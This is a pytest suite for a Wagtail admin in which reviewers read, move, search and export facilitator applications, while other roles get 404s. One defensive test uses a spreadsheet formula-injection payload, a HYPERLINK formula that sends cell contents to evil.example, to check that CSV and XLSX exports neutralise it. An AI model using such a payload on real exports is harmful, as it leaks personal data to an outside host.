"""The office side in the Wagtail admin: reviewers read and move applications; editors,
moderators and visitors see nothing of them. The listing's filters, search and exports."""

import csv
import io
import re
from datetime import datetime, timedelta

import pytest
from django.contrib.admin.utils import label_for_field
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.text import capfirst
from openpyxl import load_workbook

from applications.models import Application, ApplicationEvent, EmailWording
from applications.pipeline import Status, next_steps
from applications.wagtail_hooks import ApplicationViewSet
from core.i18n import localise_digits
from core.templatetags.i18n_extras import local_date, local_time
from tests.applications.conftest import pdf_file

pytestmark = pytest.mark.django_db

INDEX = "applications_application:index"
HISTORY = "تاریخچه"
PERSIAN_DIGITS = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")
MISSING_PK = 987654


def index_url(**params):
    from urllib.parse import urlencode

    return reverse(INDEX) + ("?" + urlencode(params, doseq=True) if params else "")


def inspect_url(application_or_pk):
    pk = getattr(application_or_pk, "pk", application_or_pk)
    return reverse("applications_application:inspect", args=[pk])


def listed(response):
    assert response.status_code == 200
    return {application.reference for application in response.context["object_list"]}


def buttons(html):
    return set(re.findall(r'<button type="submit" name="target" value="([^"]+)"', html))


@pytest.fixture
def application(make_application):
    return make_application(
        Status.SCREENING,
        cv=pdf_file(),
        full_name="مریم نمونه",
        email="maryam@example.org",
        phone="+989123456789",
        organisation="دانشگاه اصفهان",
        role="دانشیار",
        contacts_description="همکاران در دانشگاه شیان",
        proposal="هفتهٔ فیلم ایرانی در شیان",
    )


@pytest.fixture
def reviewer_client(client, reviewer):
    client.force_login(reviewer)
    return client


# Reviewers


def test_a_reviewer_sees_the_listing(reviewer_client, application):
    response = reviewer_client.get(index_url())

    assert listed(response) == {application.reference}
    html = response.content.decode()
    assert application.full_name in html
    assert inspect_url(application) in html
    assert "no-store" in response["Cache-Control"]


def test_a_reviewer_sees_the_answers_and_the_next_steps_as_buttons(
    reviewer_client, application, reviewer, culture
):
    application.fields_of_cooperation.set([culture])
    response = reviewer_client.get(inspect_url(application))

    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    html = response.content.decode()
    for answer in (
        application.reference,
        application.full_name,
        application.email,
        application.phone,
        application.city_of_residence,
        application.organisation,
        application.role,
        application.languages_spoken,
        application.contacts_description,
        application.proposal,
        application.privacy_notice_version,
        culture.name,
        "شیان",
    ):
        assert answer in html
    assert buttons(html) == {step.target for step in next_steps(Status.SCREENING)}
    assert reverse("application_cv", args=[application.pk]) in html
    assert reverse("applications_application:export_data", args=[application.pk]) in html
    assert ApplicationEvent.objects.filter(
        application=application, kind=ApplicationEvent.Kind.VIEWED, actor=reviewer
    ).exists()


@pytest.mark.parametrize("status", Status.values)
def test_the_buttons_follow_the_status(status, reviewer_client, make_application):
    application = make_application(status)

    html = reviewer_client.get(inspect_url(application)).content.decode()

    assert buttons(html) == {step.target for step in next_steps(status)}


def test_a_reviewer_moves_an_application_from_its_page(reviewer_client, application, reviewer):
    response = reviewer_client.post(
        reverse("applications_application:transition", args=[application.pk]),
        {"target": Status.SHORTLISTED, "note": "قوی"},
    )

    assert response.status_code == 302
    assert response["Location"] == inspect_url(application)
    application.refresh_from_db()
    assert application.status == Status.SHORTLISTED
    event = application.events.filter(kind=ApplicationEvent.Kind.TRANSITION).latest("pk")
    assert (event.actor, event.from_status, event.to_status, event.note) == (
        reviewer,
        Status.SCREENING,
        Status.SHORTLISTED,
        "قوی",
    )


def test_the_admin_normalises_the_note_sent_to_the_applicant(reviewer_client, application):
    reviewer_client.post(
        reverse("applications_application:transition", args=[application.pk]),
        {"target": Status.MORE_INFORMATION, "note": "رزومه ي ۲ صفحه‌ای\r\nلطفاً"},
    )

    application.refresh_from_db()
    assert application.status == Status.MORE_INFORMATION
    assert application.emails.get().note == "رزومه ی 2 صفحه‌ای\nلطفاً"


@pytest.mark.parametrize(
    ("target", "note"),
    [(Status.ACCEPTED, ""), ("nonsense", ""), (Status.MORE_INFORMATION, "   ")],
)
def test_a_step_the_table_does_not_allow_is_refused_with_a_message(
    target, note, reviewer_client, application
):
    response = reviewer_client.post(
        reverse("applications_application:transition", args=[application.pk]),
        {"target": target, "note": note},
        follow=True,
    )

    assert response.status_code == 200
    assert [m.level_tag for m in response.context["messages"]] == ["error"]
    application.refresh_from_db()
    assert application.status == Status.SCREENING
    assert not application.emails.exists()


def test_a_reviewer_sees_each_citys_pool_of_accepted_facilitators_with_their_consents(
    reviewer_client, make_application, xian, florence
):
    listed_publicly = make_application(
        Status.ACCEPTED,
        cities=[xian, florence],
        full_name="سارا پذیرفته",
        consent_public_listing=True,
    )
    make_application(Status.SHORTLISTED, cities=[xian], full_name="نادر در راه")

    response = reviewer_client.get(reverse("facilitator_pools:index"))

    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    pools = {pool["city"].pk: pool["facilitators"] for pool in response.context["pools"]}
    assert pools[xian.pk] == [listed_publicly]
    assert pools[florence.pk] == [listed_publicly]
    html = response.content.decode()
    assert "سارا پذیرفته" in html
    assert "نادر در راه" not in html


def test_a_reviewer_assigns_and_unassigns_a_reviewer(
    reviewer_client, application, reviewer, django_user_model
):
    from django.contrib.auth.models import Group

    colleague = django_user_model.objects.create_user(username="colleague", password="x")
    colleague.groups.add(Group.objects.get(name="Reviewers"))
    url = reverse("applications_application:assign", args=[application.pk])

    response = reviewer_client.post(url, {"reviewer": colleague.pk})

    assert response.status_code == 302
    application.refresh_from_db()
    assert application.assigned_reviewer == colleague
    event = application.events.get(kind=ApplicationEvent.Kind.ASSIGNED)
    assert (event.actor, event.note) == (reviewer, "colleague")

    reviewer_client.post(url, {"reviewer": ""})
    application.refresh_from_db()
    assert application.assigned_reviewer is None


def test_only_a_reviewer_can_be_assigned(reviewer_client, application, editor):
    reviewer_client.post(
        reverse("applications_application:assign", args=[application.pk]),
        {"reviewer": editor.pk},
    )

    application.refresh_from_db()
    assert application.assigned_reviewer is None
    assert not application.events.filter(kind=ApplicationEvent.Kind.ASSIGNED).exists()


@pytest.mark.parametrize("name", ["transition", "assign"])
def test_steps_and_assignments_are_never_made_by_a_get(name, reviewer_client, application):
    response = reviewer_client.get(
        reverse(f"applications_application:{name}", args=[application.pk]),
        {"target": Status.SHORTLISTED},
    )

    assert response.status_code == 405
    application.refresh_from_db()
    assert application.status == Status.SCREENING


def test_applications_cannot_be_added_or_deleted_in_the_admin(reviewer_client, application):
    html = reviewer_client.get(index_url()).content.decode()
    assert "/admin/applications/application/new/" not in html
    assert reviewer_client.get("/admin/applications/application/new/").status_code == 404
    response = reviewer_client.get(f"/admin/applications/application/{application.pk}/delete/")
    assert response.status_code == 404


def test_a_reader_without_the_change_permission_reads_but_cannot_move(
    client, application, django_user_model
):
    from django.contrib.auth.models import Group, Permission

    readers = Group.objects.create(name="Readers")
    readers.permissions.add(
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"),
        Permission.objects.get(content_type__app_label="applications", codename="view_application"),
    )
    reader = django_user_model.objects.create_user(username="reader", password="x")
    reader.groups.add(readers)
    client.force_login(reader)

    html = client.get(inspect_url(application)).content.decode()
    assert application.full_name in html
    assert buttons(html) == set()
    assert reverse("applications_application:assign", args=[application.pk]) not in html
    response = client.post(
        reverse("applications_application:transition", args=[application.pk]),
        {"target": Status.SHORTLISTED},
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("wagtailadmin_home")
    application.refresh_from_db()
    assert application.status == Status.SCREENING
    assert client.get(reverse("application_cv", args=[application.pk])).status_code == 200


# Everybody else


def admin_requests(application):
    pk = application.pk
    return [
        ("get", index_url(), {}),
        ("get", reverse("applications_application:index_results"), {}),
        ("get", index_url(export="csv"), {}),
        ("get", index_url(export="xlsx"), {}),
        ("get", inspect_url(pk), {}),
        ("get", reverse("applications_application:export_data", args=[pk]), {}),
        (
            "post",
            reverse("applications_application:transition", args=[pk]),
            {"target": Status.WITHDRAWN},
        ),
        ("post", reverse("applications_application:assign", args=[pk]), {"reviewer": ""}),
        ("get", reverse("facilitator_pools:index"), {}),
    ]


def assert_untouched(application):
    application.refresh_from_db()
    assert application.status == Status.SCREENING
    assert application.assigned_reviewer is None
    assert not application.events.exclude(
        kind__in=[ApplicationEvent.Kind.SUBMITTED, ApplicationEvent.Kind.TRANSITION]
    ).exists()


@pytest.mark.parametrize("who", ["editor", "moderator"])
def test_editors_and_moderators_find_no_office_view(who, request, client, application):
    client.force_login(request.getfixturevalue(who))

    for method, url, data in admin_requests(application):
        response = getattr(client, method)(url, data)
        # Not found, as for an address that does not exist: no sign the views are there.
        assert response.status_code == 404, url
        assert application.full_name.encode() not in response.content
        xhr = getattr(client, method)(url, data, headers={"x-requested-with": "XMLHttpRequest"})
        assert xhr.status_code == 404, url
    assert client.get(reverse("facilitator_pools:index")).status_code == 404

    response = client.get(reverse("application_cv", args=[application.pk]))
    assert response.status_code == 404
    assert b"%PDF" not in response.content
    assert_untouched(application)


def test_an_anonymous_visitor_finds_no_office_view_and_never_gets_a_cv(client, application):
    for method, url, data in admin_requests(application):
        response = getattr(client, method)(url, data)
        assert response.status_code == 404, url
        assert application.full_name.encode() not in response.content
    # The same 404 for an application that exists and one that does not, with the way to sign
    # in for a reviewer whose session ended.
    existing = client.get(inspect_url(application))
    missing = client.get(inspect_url(MISSING_PK))
    assert existing.status_code == missing.status_code == 404
    # Alike but for the address itself (in the sign-in link and the language links).
    assert re.sub(rb"application(/|%2F)\d+", b"", existing.content) == re.sub(
        rb"application(/|%2F)\d+", b"", missing.content
    )
    login = f'href="{reverse("wagtailadmin_login")}?next={inspect_url(application)}"'
    assert login in existing.content.decode()
    assert client.get(reverse("facilitator_pools:index")).status_code == 404

    response = client.get(reverse("application_cv", args=[application.pk]))
    assert response.status_code == 404
    assert_untouched(application)


def test_a_cv_url_for_a_missing_application_looks_like_any_other_refusal(
    client, application, editor
):
    existing = reverse("application_cv", args=[application.pk])
    missing = reverse("application_cv", args=[MISSING_PK])
    client.force_login(editor)
    assert client.get(existing).status_code == client.get(missing).status_code == 404


def test_guessed_ids_are_not_found_for_a_reviewer(reviewer_client, application):
    for method, url, data in admin_requests(application):
        if str(application.pk) not in url:
            continue
        guessed = url.replace(f"/{application.pk}/", f"/{MISSING_PK}/")
        response = getattr(reviewer_client, method)(guessed, data)
        assert response.status_code == 404, guessed
    assert reviewer_client.get(reverse("application_cv", args=[MISSING_PK])).status_code == 404
    assert reviewer_client.get("/admin/applications/application/abc/").status_code == 404
    assert reviewer_client.get("/admin/applications/cv/abc/").status_code == 404


@pytest.mark.parametrize("who", ["editor", "moderator"])
def test_guessed_ids_are_refused_for_others(who, request, client):
    client.force_login(request.getfixturevalue(who))
    for path in (
        inspect_url(MISSING_PK),
        reverse("applications_application:export_data", args=[MISSING_PK]),
    ):
        assert client.get(path).status_code == 404
    assert (
        client.post(
            reverse("applications_application:transition", args=[MISSING_PK]),
            {"target": Status.WITHDRAWN},
        ).status_code
        == 404
    )


# The dashboard


def menu_urls(html):
    return set(re.findall(r'"url": "([^"]+)"', html))


@pytest.mark.parametrize("who", ["editor", "moderator"])
def test_editors_and_moderators_see_neither_the_menu_item_nor_the_panel(
    who, request, client, application
):
    client.force_login(request.getfixturevalue(who))

    html = client.get(reverse("wagtailadmin_home")).content.decode()

    assert reverse(INDEX) not in menu_urls(html)
    assert reverse(INDEX) not in html
    assert "citizen-diplomats-section" not in html
    # The wording of the emails is theirs to write (it holds no personal data).
    assert reverse("wagtailsnippets_applications_emailwording:list") in menu_urls(html)


def test_editors_write_one_wording_per_email_and_language(client, editor):
    client.force_login(editor)
    add = reverse("wagtailsnippets_applications_emailwording:add")
    data = {"kind": "accepted", "subject": "Welcome, {name}", "body": "Dear {name}"}

    assert client.post(add + "?locale=en", data).status_code == 302
    again = client.post(add + "?locale=en", {**data, "subject": "Another"})
    in_persian = client.post(add + "?locale=fa", {**data, "subject": "خوش آمدید"})

    assert again.status_code == 200
    assert "kind" in again.context["form"].errors
    assert in_persian.status_code == 302
    assert sorted(EmailWording.objects.values_list("locale__language_code", "subject")) == [
        ("en", "Welcome, {name}"),
        ("fa", "خوش آمدید"),
    ]
    english = EmailWording.objects.get(locale__language_code="en")
    edit = reverse("wagtailsnippets_applications_emailwording:edit", args=[english.pk])
    assert client.post(edit, {**data, "subject": "Welcome aboard"}).status_code == 302
    english.refresh_from_db()
    assert english.subject == "Welcome aboard"


def panel(html):
    start = html.index('id="citizen-diplomats-content"')
    return html[start : html.index("</section>", start)]


def test_a_reviewer_sees_the_menu_item_and_the_citizen_diplomats_panel(
    reviewer_client, make_application, xian, florence, partner_index
):
    from tests.factories import PartnerCityPageFactory

    PartnerCityPageFactory(parent=partner_index, title="کیوتو", slug="kyoto")
    make_application(Status.SUBMITTED)
    make_application(Status.SCREENING)
    make_application(Status.SCREENING, cities=[xian, florence])
    make_application(Status.DECLINED)
    make_application(Status.ACCEPTED, cities=[florence])

    response = reviewer_client.get(reverse("wagtailadmin_home"))

    html = response.content.decode()
    assert reverse(INDEX) in menu_urls(html)
    section = panel(html)
    with translation.override(response["Content-Language"]):
        assert f"{Status.SUBMITTED.label}: {localise_digits(1)}</li>" in section
        assert f"{Status.SCREENING.label}: {localise_digits(2)}</li>" in section
        assert str(Status.ACCEPTED.label) not in section  # only open applications count
        assert str(Status.DECLINED.label) not in section
        assert f"<li>شیان: {localise_digits(3)}</li>" in section
        assert f"<li>فلورانس: {localise_digits(1)}</li>" in section
    assert "کیوتو:" not in section  # no open application
    *_, without = section.split("</h3>")
    assert "<li>شیان</li>" in without
    assert "<li>کیوتو</li>" in without
    assert "فلورانس" not in without
    assert reverse(INDEX) in section


# The listing: filters, search, duplicates and exports


@pytest.fixture
def many(make_application, xian, florence):
    tz = timezone.get_current_timezone()
    return {
        "old": make_application(
            Status.SCREENING,
            submitted_at=datetime(2024, 3, 10, 12, tzinfo=tz),
            full_name="علی قدیمی",
            email="Ali.Old@Example.org",
        ),
        "student": make_application(
            category="student",
            submitted_at=datetime(2025, 1, 5, 9, tzinfo=tz),
            full_name="سارا دانشجو",
        ),
        "florence": make_application(
            cities=[florence],
            submitted_at=datetime(2025, 6, 1, 9, tzinfo=tz),
            full_name="نیما فلورانسی",
        ),
        "english": make_application(
            language="en",
            submitted_at=datetime(2025, 6, 2, 9, tzinfo=tz),
            full_name="Jane Example",
            email="jane@example.org",
        ),
    }


def references(*applications):
    return {application.reference for application in applications}


def test_the_listing_filters_by_status(reviewer_client, many):
    assert listed(reviewer_client.get(index_url(status=Status.SCREENING))) == references(
        many["old"]
    )
    assert listed(reviewer_client.get(index_url(status=Status.SUBMITTED))) == references(
        many["student"], many["florence"], many["english"]
    )


def test_the_listing_filters_by_category(reviewer_client, many):
    response = reviewer_client.get(index_url(category="student"))
    assert listed(response) == references(many["student"])


def test_the_listing_filters_by_partner_city(reviewer_client, many, florence, xian):
    assert listed(reviewer_client.get(index_url(partner_city=florence.pk))) == references(
        many["florence"]
    )
    assert listed(reviewer_client.get(index_url(partner_city=xian.pk))) == references(
        many["old"], many["student"], many["english"]
    )


def test_the_listing_filters_by_language(reviewer_client, many):
    assert listed(reviewer_client.get(index_url(language="en"))) == references(many["english"])


def test_the_listing_filters_by_submission_dates(reviewer_client, many):
    response = reviewer_client.get(
        index_url(submitted_at_from="2025-01-01", submitted_at_to="2025-06-01")
    )
    assert listed(response) == references(many["student"], many["florence"])
    response = reviewer_client.get(index_url(submitted_at_to="2024-12-31"))
    assert listed(response) == references(many["old"])


def test_filters_combine(reviewer_client, many, xian):
    response = reviewer_client.get(
        index_url(partner_city=xian.pk, status=Status.SUBMITTED, language="fa")
    )
    assert listed(response) == references(many["student"])


@pytest.mark.parametrize(
    ("query", "key"),
    [
        ("سارا", "student"),
        ("فلورانسی", "florence"),
        ("jane@example", "english"),
        ("ALI.OLD@example.ORG", "old"),
    ],
)
def test_the_listing_searches_names_and_emails(query, key, reviewer_client, many):
    assert listed(reviewer_client.get(index_url(q=query))) == references(many[key])


def test_a_name_is_found_whichever_yeh_is_typed(reviewer_client, many):
    # The Arabic keyboard's ي for the Persian ی.
    assert listed(reviewer_client.get(index_url(q="علي"))) == references(many["old"])


def test_the_listing_searches_references_also_in_persian_digits(reviewer_client, many):
    target = many["florence"]
    persian = target.reference.translate(PERSIAN_DIGITS)
    assert persian != target.reference

    assert listed(reviewer_client.get(index_url(q=target.reference))) == references(target)
    assert listed(reviewer_client.get(index_url(q=persian))) == references(target)
    assert listed(reviewer_client.get(index_url(q=persian.lower()))) == references(target)


def test_possible_duplicates_are_flagged_on_the_application(
    reviewer_client, make_application, application
):
    same_email = make_application(email=application.email, phone="+989120009999")
    same_phone = make_application(email="someone.else@example.org", phone=application.phone)
    unrelated = make_application(email="third@example.org", phone="+989127777777")

    html = reviewer_client.get(inspect_url(application)).content.decode()
    warning = html[html.index('class="help-block help-warning"') :]
    warning = warning[: warning.index("</div>")]
    assert f'<a href="{inspect_url(same_email)}">{same_email.reference}</a>' in warning
    assert f'<a href="{inspect_url(same_phone)}">{same_phone.reference}</a>' in warning
    assert unrelated.reference not in html

    # reCAPTCHA passed and nobody shares the address: no warning at all.
    html = reviewer_client.get(inspect_url(unrelated)).content.decode()
    assert "help-warning" not in html
    flags = dict(Application.objects.with_duplicate_flag().values_list("pk", "has_duplicate"))
    assert flags == {
        application.pk: True,
        same_email.pk: True,
        same_phone.pk: True,
        unrelated.pk: False,
    }


def expected_headings(response):
    """The headings the viewset declares (its overrides, else the fields' labels) in the
    language of the response."""
    overrides = getattr(ApplicationViewSet, "export_headings", {})
    with translation.override(response["Content-Language"]):
        return [
            str(overrides[field])
            if field in overrides
            else capfirst(str(label_for_field(field, Application)))
            for field in ApplicationViewSet.list_export
        ]


def csv_rows(response):
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def xlsx_rows(response):
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert "attachment" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def test_the_csv_export_holds_the_filtered_rows_with_headings(reviewer_client, many):
    response = reviewer_client.get(index_url(status=Status.SUBMITTED, export="csv"))
    rows = csv_rows(response)

    assert rows[0] == expected_headings(response)
    column = ApplicationViewSet.list_export.index
    assert {row[column("reference")] for row in rows[1:]} == references(
        many["student"], many["florence"], many["english"]
    )
    english = next(row for row in rows if row[column("reference")] == many["english"].reference)
    assert english[column("email")] == "jane@example.org"
    assert english[column("full_name")] == "Jane Example"
    assert english[column("partner_city_names")] == "شیان"


def test_the_xlsx_export_holds_the_filtered_rows_with_headings(reviewer_client, many):
    response = reviewer_client.get(index_url(q="فلورانسی", export="xlsx"))
    rows = xlsx_rows(response)

    assert rows[0] == expected_headings(response)
    assert len(rows) == 2
    column = ApplicationViewSet.list_export.index
    row = rows[1]
    target = many["florence"]
    assert row[column("reference")] == target.reference
    assert row[column("full_name")] == target.full_name
    assert row[column("phone")] == target.phone
    assert row[column("partner_city_names")] == "فلورانس"


def test_exports_do_not_hand_spreadsheet_formulas_to_the_office(reviewer_client, make_application):
    # Names come from the public form; a spreadsheet must show them, not run them.
    formula = '=HYPERLINK("https://evil.example/?"&B2,"CV")'
    application = make_application(full_name=formula, organisation="@SUM(1+1)")

    rows = csv_rows(reviewer_client.get(index_url(export="csv")))
    column = ApplicationViewSet.list_export.index
    row = next(r for r in rows if r[column("reference")] == application.reference)
    assert row[column("full_name")] == "'" + formula
    assert row[column("organisation")] == "'@SUM(1+1)"
    assert row[column("phone")] == application.phone  # an E.164 number stays as it is

    workbook = load_workbook(
        io.BytesIO(b"".join(reviewer_client.get(index_url(export="xlsx")).streaming_content))
    )
    cells = [
        cell
        for row in workbook.active.iter_rows(min_row=2)
        for cell in row
        if cell.value == formula
    ]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_exports_follow_the_search_too(reviewer_client, many):
    rows = csv_rows(reviewer_client.get(index_url(q="jane", export="csv")))
    assert [row[0] for row in rows[1:]] == [many["english"].reference]


def test_the_listing_is_paginated_not_truncated_for_exports(reviewer_client, make_application):
    for _ in range(ApplicationViewSet.list_per_page + 1):
        make_application(submitted_at=timezone.now() - timedelta(days=1))

    assert len(listed(reviewer_client.get(index_url()))) == ApplicationViewSet.list_per_page
    rows = csv_rows(reviewer_client.get(index_url(export="csv")))
    assert len(rows) - 1 == ApplicationViewSet.list_per_page + 1


def test_a_facilitator_who_withdraws_consent_is_no_longer_named_on_the_city_page(
    reviewer_client, make_application, xian, client
):
    facilitator = make_application(
        Status.ACCEPTED, full_name="سارا پذیرفته", consent_public_listing=True
    )
    assert "سارا پذیرفته" in client.get(xian.url).content.decode()

    response = reviewer_client.post(
        reverse("applications_application:withdraw_listing", args=[facilitator.pk]),
        {"note": "به درخواست تلفنی"},
    )

    assert response.status_code == 302
    facilitator.refresh_from_db()
    assert not facilitator.consent_public_listing
    event = facilitator.events.get(kind=ApplicationEvent.Kind.LISTING_WITHDRAWN)
    assert event.note == "به درخواست تلفنی"
    assert "سارا پذیرفته" not in client.get(xian.url).content.decode()
    assert facilitator.status == Status.ACCEPTED


def test_editors_cannot_withdraw_a_facilitators_listing(client, editor, make_application):
    facilitator = make_application(Status.ACCEPTED, consent_public_listing=True)
    client.force_login(editor)

    client.post(reverse("applications_application:withdraw_listing", args=[facilitator.pk]))

    facilitator.refresh_from_db()
    assert facilitator.consent_public_listing


def _history(html):
    """The history table's rows as lists of cell texts."""
    from tests.applications.form_pages import BeautifulSoup

    table = BeautifulSoup(html, "html.parser").find("h2", string=HISTORY).find_next("table")
    return [
        [cell.get_text(" ", strip=True) for cell in row.find_all("td")]
        for row in table.select("tbody tr")
    ]


def test_the_application_view_shows_every_event_in_order(
    reviewer_client, make_application, reviewer
):
    from applications.pipeline import transition

    application = make_application(Status.SCREENING)
    transition(application, Status.SHORTLISTED, by=reviewer, note="پیشنهاد روشن")
    html = reviewer_client.get(inspect_url(application)).content.decode()

    with translation.override("fa"):
        label = {value: str(name) for value, name in Status.choices}
        submitted = str(ApplicationEvent.Kind.SUBMITTED.label)
        changed = str(ApplicationEvent.Kind.TRANSITION.label)
        viewed = str(ApplicationEvent.Kind.VIEWED.label)
    # When, in the reader's calendar: Jalali with Persian digits in the Persian admin.
    with translation.override("fa"):
        when = f"{local_date(application.submitted_at)} {local_time(application.submitted_at)}"
    assert _history(html)[0][0] == when
    assert re.search(r"[۰-۹]+ \w+ ۱۴[۰-۹]{2} [۰-۹]{2}:[۰-۹]{2}", when)
    rows = [row[1:] for row in _history(html)]  # (event, by, change, note)
    assert rows == [
        [submitted, "—", label["submitted"], ""],
        [changed, "reviewer", f"{label['submitted']} → {label['screening']}", "یادداشت"],
        [changed, "reviewer", f"{label['screening']} → {label['shortlisted']}", "پیشنهاد روشن"],
    ]
    # Opening it is on the record too, and shows the next time.
    again = _history(reviewer_client.get(inspect_url(application)).content.decode())
    assert [row[1:3] for row in again[3:]] == [[viewed, "reviewer"]]


@pytest.mark.parametrize("outcome", ["unavailable", "unverified"])
def test_a_recaptcha_that_could_not_confirm_is_flagged_in_the_listing_and_the_view(
    reviewer_client, make_application, outcome
):
    from applications.models.application import CaptchaOutcome

    flagged = make_application(Status.SUBMITTED, captcha_outcome=outcome)
    plain = make_application(Status.SUBMITTED)

    listing = reviewer_client.get(index_url()).content.decode()
    row_of = {
        a.reference: listing.split(a.reference, 1)[1].split("</tr>", 1)[0] for a in (flagged, plain)
    }
    with translation.override("fa"):
        flag = translation.gettext("reCAPTCHA not confirmed")
        warning = translation.gettext(
            "reCAPTCHA could not confirm this application (%(outcome)s): look at it closely."
        ) % {"outcome": CaptchaOutcome(outcome).label}
    assert flag in row_of[flagged.reference]
    assert flag not in row_of[plain.reference]

    assert warning in reviewer_client.get(inspect_url(flagged)).content.decode()
    assert "help-warning" not in reviewer_client.get(inspect_url(plain)).content.decode()


def test_a_superuser_outside_the_reviewers_group_sees_applications(
    client, application, django_user_model
):
    admin = django_user_model.objects.create_superuser("chief", "chief@example.org", "x")
    client.force_login(admin)
    assert client.get(reverse(INDEX)).status_code == 200
    assert application.full_name in client.get(inspect_url(application)).content.decode()
    assert client.get(reverse("application_cv", args=[application.pk])).status_code == 200


def test_a_signed_in_editor_gets_no_sign_in_link_on_the_404(client, editor, application):
    client.force_login(editor)
    response = client.get(reverse(INDEX))
    assert response.status_code == 404
    assert reverse("wagtailadmin_login") not in response.content.decode()
